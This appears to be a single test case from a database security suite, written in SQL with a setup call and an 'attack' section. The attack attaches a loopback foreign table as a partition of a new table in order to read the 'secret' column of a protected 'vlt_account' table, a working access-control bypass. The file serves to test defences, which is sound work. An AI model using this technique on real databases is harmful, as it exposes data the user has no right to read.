-- Attaches a foreign table that leads back as a partition of an own table.
-- wants: read
-- setup:
CALL open_ways_out();
-- attack:
CREATE TABLE above (id int NOT NULL, secret text) PARTITION BY RANGE (id);
CREATE FOREIGN TABLE below PARTITION OF above DEFAULT SERVER loopback OPTIONS (schema_name 'public', table_name 'vlt_account');
SELECT secret FROM above;
